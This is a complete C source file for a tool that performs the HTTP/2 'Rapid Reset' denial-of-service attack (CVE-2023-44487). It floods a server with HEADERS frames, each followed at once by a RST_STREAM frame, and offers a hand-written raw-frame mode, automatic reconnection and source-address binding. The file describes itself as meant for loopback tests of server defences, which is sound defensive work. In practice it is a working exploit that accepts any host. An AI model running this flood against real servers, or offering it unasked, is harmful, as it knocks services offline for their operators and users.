/*
 * rapid_reset: an HTTP/2 "Rapid Reset" flood (CVE-2023-44487) for tests.
 *
 *   rapid_reset [--raw] [--path P] [--method M] [--open] [--reconnect] [--bind ADDR]
 *               HOST PORT SECONDS
 *
 * Opens one TLS connection (ALPN h2, certificate not verified: loopback
 * tests only) and, for SECONDS, sends HEADERS (a complete GET /healthz by
 * default, END_STREAM set, so the server dispatches the request; with
 * --open a POST whose body never comes, so the server holds the stream
 * open) each followed at once by RST_STREAM(CANCEL) on the same stream, as
 * fast as the socket takes them. It reads and discards what the server
 * sends, so the server is never blocked on a full socket. Streams are reset
 * as soon as their HEADERS frame is out, so the server's
 * SETTINGS_MAX_CONCURRENT_STREAMS never stops the flood: that is the attack.
 * "streams" counts pairs handed to the kernel; after a GOAWAY the server
 * discards what was still in flight.
 *
 * By default nghttp2's client session sends the frames (an RST_STREAM is
 * queued as each HEADERS leaves); that client, not the server, is then the
 * bottleneck at some 50,000 streams a second. With --raw the frames are
 * written by hand, HEADERS+RST_STREAM pairs in large batches, the header
 * block encoded once with nghttp2's HPACK encoder (never indexed, so every
 * block is the same): the attacker a real one would write.
 *
 * When the server closes the connection (GOAWAY, a TLS or TCP error), the
 * run ends, or with --reconnect a new connection continues it; a new
 * connection the server refuses is counted (refused=) and tried again a
 * millisecond later until the time is up, as an attacker would. --bind sets
 * the source address (127.0.0.2: an attacker apart from the loopback
 * clients of the same test).
 *
 * Prints one line of key=value figures:
 *   streams=N resets=N seconds=S rate=N/s connections=N goaway=N
 *   goaway_error=CODE server_rst=N responses=N bytes_in=N end=REASON
 */
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <netinet/in.h>
#include <netinet/tcp.h>
#include <nghttp2/nghttp2.h>
#include <openssl/err.h>
#include <openssl/ssl.h>

/* more requests are submitted whenever fewer than this many frames wait to go out */
#define RR_BATCH 64

/* --raw: pairs written per batch */
#define RR_RAW_PAIRS 256

struct rr_raw {
	uint8_t *chunk; /* RR_RAW_PAIRS x (HEADERS + RST_STREAM) */
	size_t chunk_len, pair_len;
	size_t off;       /* bytes of the chunk already written */
	uint32_t next_id; /* next client stream id (odd) */
	bool ack_pending; /* the server's SETTINGS wants an ACK */
	/* incoming frames, parsed only as far as counting needs */
	uint8_t head[9];
	size_t head_have;
	size_t payload_left, payload_pos;
	uint8_t type;
};

struct rr {
	const char *host, *port, *path, *method;
	bool open; /* HEADERS without END_STREAM */
	bool raw;
	struct rr_raw r;
	SSL_CTX *ctx;
	SSL *ssl;
	int fd;
	nghttp2_session *session;
	bool dead;
	const char *end;
	/* figures */
	unsigned long long streams, resets, server_rst, responses, goaways, bytes_in;
	unsigned connections;
	unsigned refused;
	const char *bind;
	uint32_t goaway_error;
};

static double rr_now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static ssize_t rr_send(nghttp2_session *s, const uint8_t *data, size_t len, int flags, void *u)
{
	(void)s;
	(void)flags;
	struct rr *rr = u;
	ERR_clear_error();
	int n = SSL_write(rr->ssl, data, (int)len);
	if (n > 0)
		return n;
	int e = SSL_get_error(rr->ssl, n);
	if (e == SSL_ERROR_WANT_WRITE || e == SSL_ERROR_WANT_READ)
		return NGHTTP2_ERR_WOULDBLOCK;
	rr->end = "write failed (connection closed by the server)";
	return NGHTTP2_ERR_CALLBACK_FAILURE;
}

static ssize_t rr_recv(nghttp2_session *s, uint8_t *buf, size_t len, int flags, void *u)
{
	(void)s;
	(void)flags;
	struct rr *rr = u;
	ERR_clear_error();
	int n = SSL_read(rr->ssl, buf, (int)len);
	if (n > 0) {
		rr->bytes_in += (unsigned long long)n;
		return n;
	}
	int e = SSL_get_error(rr->ssl, n);
	if (e == SSL_ERROR_WANT_READ || e == SSL_ERROR_WANT_WRITE)
		return NGHTTP2_ERR_WOULDBLOCK;
	if (e == SSL_ERROR_ZERO_RETURN || (e == SSL_ERROR_SYSCALL && n == 0)) {
		rr->end = "connection closed by the server";
		return NGHTTP2_ERR_EOF;
	}
	rr->end = "read failed (connection reset)";
	return NGHTTP2_ERR_CALLBACK_FAILURE;
}

/* Each request's RST_STREAM is queued as its HEADERS leaves, never before:
 * nghttp2 would otherwise cancel the still-unsent HEADERS. */
static int rr_on_frame_send(nghttp2_session *s, const nghttp2_frame *f, void *u)
{
	struct rr *rr = u;
	if (f->hd.type == NGHTTP2_HEADERS) {
		rr->streams++;
		nghttp2_submit_rst_stream(s, NGHTTP2_FLAG_NONE, f->hd.stream_id, NGHTTP2_CANCEL);
	} else if (f->hd.type == NGHTTP2_RST_STREAM) {
		rr->resets++;
	}
	return 0;
}

static int rr_on_frame_recv(nghttp2_session *s, const nghttp2_frame *f, void *u)
{
	(void)s;
	struct rr *rr = u;
	switch (f->hd.type) {
	case NGHTTP2_GOAWAY:
		rr->goaways++;
		rr->goaway_error = f->goaway.error_code;
		break;
	case NGHTTP2_RST_STREAM:
		rr->server_rst++;
		break;
	case NGHTTP2_HEADERS:
		if (f->headers.cat == NGHTTP2_HCAT_RESPONSE)
			rr->responses++;
		break;
	default:
		break;
	}
	return 0;
}

/* ---- --raw ---- */

static void rr_frame_head(uint8_t *p, size_t len, uint8_t type, uint8_t flags, uint32_t id)
{
	p[0] = (uint8_t)(len >> 16);
	p[1] = (uint8_t)(len >> 8);
	p[2] = (uint8_t)len;
	p[3] = type;
	p[4] = flags;
	p[5] = (uint8_t)(id >> 24) & 0x7f;
	p[6] = (uint8_t)(id >> 16);
	p[7] = (uint8_t)(id >> 8);
	p[8] = (uint8_t)id;
}

/* The batch of pairs, with the header block encoded once. */
static int rr_raw_build(struct rr *rr)
{
	char authority[300];
	snprintf(authority, sizeof(authority), "%s:%s", rr->host, rr->port);
	const uint8_t f = NGHTTP2_NV_FLAG_NO_INDEX;
	const nghttp2_nv nv[] = {
		{(uint8_t *)":method", (uint8_t *)rr->method, 7, strlen(rr->method), f},
		{(uint8_t *)":scheme", (uint8_t *)"https", 7, 5, f},
		{(uint8_t *)":authority", (uint8_t *)authority, 10, strlen(authority), f},
		{(uint8_t *)":path", (uint8_t *)rr->path, 5, strlen(rr->path), f},
		{(uint8_t *)"content-length", (uint8_t *)"4096", 14, 4, f},
		{(uint8_t *)"content-type", (uint8_t *)"application/json", 12, 16, f},
	};
	size_t nnv = rr->open ? 6 : 4;
	nghttp2_hd_deflater *d;
	if (nghttp2_hd_deflate_new(&d, 4096) != 0)
		return -1;
	size_t bound = nghttp2_hd_deflate_bound(d, nv, nnv);
	uint8_t *block = malloc(bound);
	ssize_t blen = block != NULL ? nghttp2_hd_deflate_hd(d, block, bound, nv, nnv) : -1;
	nghttp2_hd_deflate_del(d);
	if (blen < 0) {
		free(block);
		return -1;
	}
	rr->r.pair_len = 9 + (size_t)blen + 9 + 4;
	rr->r.chunk_len = rr->r.pair_len * RR_RAW_PAIRS;
	rr->r.chunk = malloc(rr->r.chunk_len);
	if (rr->r.chunk == NULL) {
		free(block);
		return -1;
	}
	/* END_HEADERS, and END_STREAM unless the request is to stay open */
	uint8_t flags = rr->open ? 0x4 : 0x5;
	for (size_t i = 0; i < RR_RAW_PAIRS; i++) {
		uint8_t *p = rr->r.chunk + i * rr->r.pair_len;
		rr_frame_head(p, (size_t)blen, 0x1, flags, 1);
		memcpy(p + 9, block, (size_t)blen);
		uint8_t *rst = p + 9 + blen;
		rr_frame_head(rst, 4, 0x3, 0, 1);
		rst[9] = rst[10] = rst[11] = 0;
		rst[12] = NGHTTP2_CANCEL;
	}
	free(block);
	return 0;
}

static void rr_raw_set_ids(struct rr *rr)
{
	for (size_t i = 0; i < RR_RAW_PAIRS; i++) {
		uint8_t *p = rr->r.chunk + i * rr->r.pair_len;
		uint32_t id = rr->r.next_id;
		rr->r.next_id += 2;
		rr_frame_head(p, (size_t)((p[0] << 16) | (p[1] << 8) | p[2]), 0x1, p[4], id);
		rr_frame_head(p + rr->r.pair_len - 13, 4, 0x3, 0, id);
	}
}

/* Counts what the server sends; notes a SETTINGS to acknowledge. */
static void rr_raw_parse(struct rr *rr, const uint8_t *b, size_t n)
{
	struct rr_raw *r = &rr->r;
	while (n > 0) {
		if (r->head_have < 9) {
			r->head[r->head_have++] = *b++;
			n--;
			if (r->head_have < 9)
				continue;
			r->type = r->head[3];
			r->payload_left =
				((size_t)r->head[0] << 16) | ((size_t)r->head[1] << 8) | r->head[2];
			r->payload_pos = 0;
			if (r->type == 0x1)
				rr->responses++;
			else if (r->type == 0x3)
				rr->server_rst++;
			else if (r->type == 0x7) {
				rr->goaways++;
				rr->goaway_error = 0;
			} else if (r->type == 0x4 && !(r->head[4] & 0x1))
				r->ack_pending = true;
		} else {
			size_t take = n < r->payload_left ? n : r->payload_left;
			/* GOAWAY: last-stream-id (4 bytes), then the error code */
			for (size_t i = 0; r->type == 0x7 && i < take; i++)
				if (r->payload_pos + i >= 4 && r->payload_pos + i < 8)
					rr->goaway_error = (rr->goaway_error << 8) | b[i];
			r->payload_left -= take;
			r->payload_pos += take;
			b += take;
			n -= take;
		}
		if (r->head_have == 9 && r->payload_left == 0)
			r->head_have = 0;
	}
}

static void rr_raw_read(struct rr *rr)
{
	uint8_t buf[65536];
	for (;;) {
		ERR_clear_error();
		int n = SSL_read(rr->ssl, buf, sizeof(buf));
		if (n > 0) {
			rr->bytes_in += (unsigned long long)n;
			rr_raw_parse(rr, buf, (size_t)n);
			continue;
		}
		int e = SSL_get_error(rr->ssl, n);
		if (e == SSL_ERROR_WANT_READ || e == SSL_ERROR_WANT_WRITE)
			return;
		rr->end = e == SSL_ERROR_ZERO_RETURN || (e == SSL_ERROR_SYSCALL && n == 0)
				  ? "connection closed by the server"
				  : "read failed (connection reset)";
		rr->dead = true;
		return;
	}
}

/* Writes all of buf on the non-blocking socket, or gives up at `stop`. */
static int rr_raw_write_all(struct rr *rr, const uint8_t *buf, size_t len, double stop)
{
	while (len > 0 && rr_now() < stop) {
		ERR_clear_error();
		int n = SSL_write(rr->ssl, buf, (int)len);
		if (n > 0) {
			buf += n;
			len -= (size_t)n;
			continue;
		}
		int e = SSL_get_error(rr->ssl, n);
		if (e != SSL_ERROR_WANT_WRITE && e != SSL_ERROR_WANT_READ) {
			rr->end = "write failed (connection closed by the server)";
			rr->dead = true;
			return -1;
		}
		rr_raw_read(rr);
		struct pollfd p = {.fd = rr->fd, .events = POLLIN | POLLOUT};
		poll(&p, 1, 10);
	}
	return len == 0 ? 0 : -1;
}

/* One step of the flood: read what came, then write (part of) a batch. */
static void rr_raw_step(struct rr *rr, double stop)
{
	struct rr_raw *r = &rr->r;
	rr_raw_read(rr);
	if (rr->dead)
		return;
	if (r->off == 0) {
		if (r->ack_pending) {
			uint8_t ack[9];
			rr_frame_head(ack, 0, 0x4, 0x1, 0);
			if (rr_raw_write_all(rr, ack, sizeof(ack), stop) < 0)
				return;
			r->ack_pending = false;
		}
		if (r->next_id > 0x7fffffffu - 2 * RR_RAW_PAIRS) {
			rr->end = "stream ids exhausted";
			rr->dead = true;
			return;
		}
		rr_raw_set_ids(rr);
	}
	ERR_clear_error();
	int n = SSL_write(rr->ssl, r->chunk + r->off, (int)(r->chunk_len - r->off));
	if (n > 0) {
		size_t before = r->off / r->pair_len;
		r->off += (size_t)n;
		size_t pairs = r->off / r->pair_len - before;
		rr->streams += pairs;
		rr->resets += pairs;
		if (r->off == r->chunk_len)
			r->off = 0;
		return;
	}
	int e = SSL_get_error(rr->ssl, n);
	if (e != SSL_ERROR_WANT_WRITE && e != SSL_ERROR_WANT_READ) {
		rr->end = "write failed (connection closed by the server)";
		rr->dead = true;
		return;
	}
	struct pollfd p = {.fd = rr->fd, .events = POLLIN | POLLOUT};
	poll(&p, 1, 10);
}

/* The preface, our SETTINGS and a large connection window, as the handshake ends. */
static int rr_raw_start(struct rr *rr)
{
	static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
	uint8_t buf[64];
	size_t n = sizeof(preface) - 1;
	memcpy(buf, preface, n);
	rr_frame_head(buf + n, 0, 0x4, 0, 0); /* SETTINGS, none changed */
	n += 9;
	rr_frame_head(buf + n, 4, 0x8, 0, 0); /* WINDOW_UPDATE on the connection: +1 GiB */
	buf[n + 9] = 0x40;
	buf[n + 10] = buf[n + 11] = buf[n + 12] = 0;
	n += 13;
	rr->r.off = 0;
	rr->r.next_id = 1;
	rr->r.head_have = 0;
	rr->r.ack_pending = false;
	return rr_raw_write_all(rr, buf, n, rr_now() + 10);
}

static void rr_close(struct rr *rr)
{
	if (rr->session != NULL)
		nghttp2_session_del(rr->session);
	rr->session = NULL;
	if (rr->ssl != NULL) {
		SSL_shutdown(rr->ssl);
		SSL_free(rr->ssl);
	}
	rr->ssl = NULL;
	if (rr->fd >= 0)
		close(rr->fd);
	rr->fd = -1;
}

static int rr_connect(struct rr *rr)
{
	struct addrinfo hints = {.ai_socktype = SOCK_STREAM}, *res = NULL;
	if (getaddrinfo(rr->host, rr->port, &hints, &res) != 0 || res == NULL) {
		fprintf(stderr, "rapid_reset: cannot resolve %s:%s\n", rr->host, rr->port);
		return -1;
	}
	rr->fd = socket(res->ai_family, SOCK_STREAM, 0);
	if (rr->fd >= 0 && rr->bind != NULL) {
		struct addrinfo *src = NULL;
		struct addrinfo bh = {.ai_socktype = SOCK_STREAM, .ai_family = res->ai_family};
		if (getaddrinfo(rr->bind, "0", &bh, &src) != 0 || src == NULL ||
		    bind(rr->fd, src->ai_addr, src->ai_addrlen) != 0) {
			fprintf(stderr, "rapid_reset: cannot bind to %s\n", rr->bind);
			if (src != NULL)
				freeaddrinfo(src);
			freeaddrinfo(res);
			return -1;
		}
		freeaddrinfo(src);
	}
	if (rr->fd < 0 || connect(rr->fd, res->ai_addr, res->ai_addrlen) != 0) {
		if (rr->connections == 0) /* later refusals are counted, not printed */
			fprintf(stderr, "rapid_reset: connect: %s\n", strerror(errno));
		freeaddrinfo(res);
		return -1;
	}
	freeaddrinfo(res);
	int on = 1;
	setsockopt(rr->fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
	rr->ssl = SSL_new(rr->ctx);
	SSL_set_fd(rr->ssl, rr->fd);
	SSL_set_tlsext_host_name(rr->ssl, "localhost");
	if (SSL_connect(rr->ssl) != 1) {
		if (rr->connections == 0) {
			fprintf(stderr, "rapid_reset: TLS handshake failed\n");
			ERR_print_errors_fp(stderr);
		}
		ERR_clear_error();
		return -1;
	}
	const unsigned char *alpn = NULL;
	unsigned alpn_len = 0;
	SSL_get0_alpn_selected(rr->ssl, &alpn, &alpn_len);
	if (alpn_len != 2 || memcmp(alpn, "h2", 2) != 0) {
		fprintf(stderr,
			"rapid_reset: the server did not select h2 (start it with --http2)\n");
		return -1;
	}
	fcntl(rr->fd, F_SETFL, fcntl(rr->fd, F_GETFL) | O_NONBLOCK);
	SSL_set_mode(rr->ssl, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
	rr->connections++;
	rr->dead = false;
	if (rr->raw)
		return rr_raw_start(rr);

	nghttp2_session_callbacks *cb;
	nghttp2_session_callbacks_new(&cb);
	nghttp2_session_callbacks_set_send_callback(cb, rr_send);
	nghttp2_session_callbacks_set_recv_callback(cb, rr_recv);
	nghttp2_session_callbacks_set_on_frame_send_callback(cb, rr_on_frame_send);
	nghttp2_session_callbacks_set_on_frame_recv_callback(cb, rr_on_frame_recv);
	int rc = nghttp2_session_client_new(&rr->session, cb, rr);
	nghttp2_session_callbacks_del(cb);
	if (rc != 0)
		return -1;
	nghttp2_settings_entry iv[] = {{NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE, 1 << 20}};
	nghttp2_submit_settings(rr->session, NGHTTP2_FLAG_NONE, iv, 1);
	return 0;
}

static int rr_submit_batch(struct rr *rr)
{
	char authority[300];
	snprintf(authority, sizeof(authority), "%s:%s", rr->host, rr->port);
	const nghttp2_nv nv[] = {
		{(uint8_t *)":method", (uint8_t *)rr->method, 7, strlen(rr->method),
		 NGHTTP2_NV_FLAG_NONE},
		{(uint8_t *)":scheme", (uint8_t *)"https", 7, 5, NGHTTP2_NV_FLAG_NONE},
		{(uint8_t *)":authority", (uint8_t *)authority, 10, strlen(authority),
		 NGHTTP2_NV_FLAG_NONE},
		{(uint8_t *)":path", (uint8_t *)rr->path, 5, strlen(rr->path),
		 NGHTTP2_NV_FLAG_NONE},
	};
	const nghttp2_nv nv_open[] = {
		nv[0],
		nv[1],
		nv[2],
		nv[3],
		{(uint8_t *)"content-length", (uint8_t *)"4096", 14, 4, NGHTTP2_NV_FLAG_NONE},
		{(uint8_t *)"content-type", (uint8_t *)"application/json", 12, 16,
		 NGHTTP2_NV_FLAG_NONE},
	};
	for (int i = 0; i < RR_BATCH; i++) {
		int32_t id = rr->open
				     ? nghttp2_submit_headers(rr->session, NGHTTP2_FLAG_NONE, -1,
							      NULL, nv_open, 6, NULL)
				     : nghttp2_submit_request(rr->session, NULL, nv, 4, NULL, NULL);
		if (id < 0) {
			if (id == NGHTTP2_ERR_STREAM_ID_NOT_AVAILABLE) {
				rr->end = "stream ids exhausted";
				return -1;
			}
			rr->end = nghttp2_strerror(id);
			return -1;
		}
	}
	return 0;
}

int main(int argc, char **argv)
{
	struct rr rr = {.path = "/healthz", .method = "GET", .fd = -1};
	bool reconnect = false;
	int i = 1;
	for (; i < argc && argv[i][0] == '-' && argv[i][1] == '-'; i++) {
		if (strcmp(argv[i], "--path") == 0 && i + 1 < argc)
			rr.path = argv[++i];
		else if (strcmp(argv[i], "--method") == 0 && i + 1 < argc)
			rr.method = argv[++i];
		else if (strcmp(argv[i], "--reconnect") == 0)
			reconnect = true;
		else if (strcmp(argv[i], "--bind") == 0 && i + 1 < argc)
			rr.bind = argv[++i];
		else if (strcmp(argv[i], "--open") == 0)
			rr.open = true;
		else if (strcmp(argv[i], "--raw") == 0)
			rr.raw = true;
		else
			break;
	}
	if (argc - i != 3) {
		fprintf(stderr, "usage: rapid_reset [--raw] [--path P] [--method M] [--open] "
				"[--reconnect] [--bind ADDR] HOST PORT SECONDS\n");
		return 2;
	}
	rr.host = argv[i];
	rr.port = argv[i + 1];
	double seconds = atof(argv[i + 2]);
	if (seconds <= 0 || seconds > 600) {
		fprintf(stderr, "rapid_reset: SECONDS must be in (0, 600]\n");
		return 2;
	}
	signal(SIGPIPE, SIG_IGN);

	rr.ctx = SSL_CTX_new(TLS_client_method());
	SSL_CTX_set_min_proto_version(rr.ctx, TLS1_2_VERSION);
	SSL_CTX_set_verify(rr.ctx, SSL_VERIFY_NONE, NULL);
	static const unsigned char alpn[] = "\x02h2";
	SSL_CTX_set_alpn_protos(rr.ctx, alpn, sizeof(alpn) - 1);

	if (rr.raw && rr_raw_build(&rr) < 0) {
		fprintf(stderr, "rapid_reset: cannot encode the request headers\n");
		return 1;
	}
	if (rr_connect(&rr) < 0)
		return 1;
	double start = rr_now(), stop = start + seconds;
	rr.end = "time is up";
	while (rr_now() < stop) {
		if (rr.dead) {
			if (!reconnect)
				break;
			rr_close(&rr);
			if (rr_connect(&rr) < 0) {
				rr.refused++;
				rr.end = "reconnect refused";
				rr.dead = true;
				struct timespec ms = {.tv_nsec = 1000000};
				nanosleep(&ms, NULL);
				continue;
			}
			rr.end = "time is up";
		}
		if (rr.raw) {
			rr_raw_step(&rr, stop);
			continue;
		}
		if (nghttp2_session_get_outbound_queue_size(rr.session) < RR_BATCH &&
		    rr_submit_batch(&rr) < 0) {
			rr.dead = true;
			continue;
		}
		int rc = nghttp2_session_send(rr.session);
		if (rc == 0)
			rc = nghttp2_session_recv(rr.session);
		if (rc != 0 || (!nghttp2_session_want_read(rr.session) &&
				!nghttp2_session_want_write(rr.session))) {
			if (rc != 0 && rr.end != NULL && strcmp(rr.end, "time is up") == 0)
				rr.end = nghttp2_strerror(rc);
			if (rc == 0)
				rr.end = "the session ended (GOAWAY)";
			rr.dead = true;
			continue;
		}
		/* wait only while the socket is full; otherwise go on submitting */
		struct pollfd p = {.fd = rr.fd, .events = POLLIN};
		bool blocked = nghttp2_session_want_write(rr.session) != 0;
		if (blocked)
			p.events |= POLLOUT;
		poll(&p, 1, blocked ? 10 : 0);
	}
	double took = rr_now() - start;
	printf("streams=%llu resets=%llu seconds=%.2f rate=%.0f/s connections=%u refused=%u "
	       "goaway=%llu goaway_error=%u server_rst=%llu responses=%llu bytes_in=%llu "
	       "end=\"%s\"\n",
	       rr.streams, rr.resets, took, took > 0 ? (double)rr.streams / took : 0.0,
	       rr.connections, rr.refused, rr.goaways, rr.goaway_error, rr.server_rst, rr.responses,
	       rr.bytes_in, rr.end);
	fflush(stdout);
	rr_close(&rr);
	SSL_CTX_free(rr.ctx);
	free(rr.r.chunk);
	return 0;
}
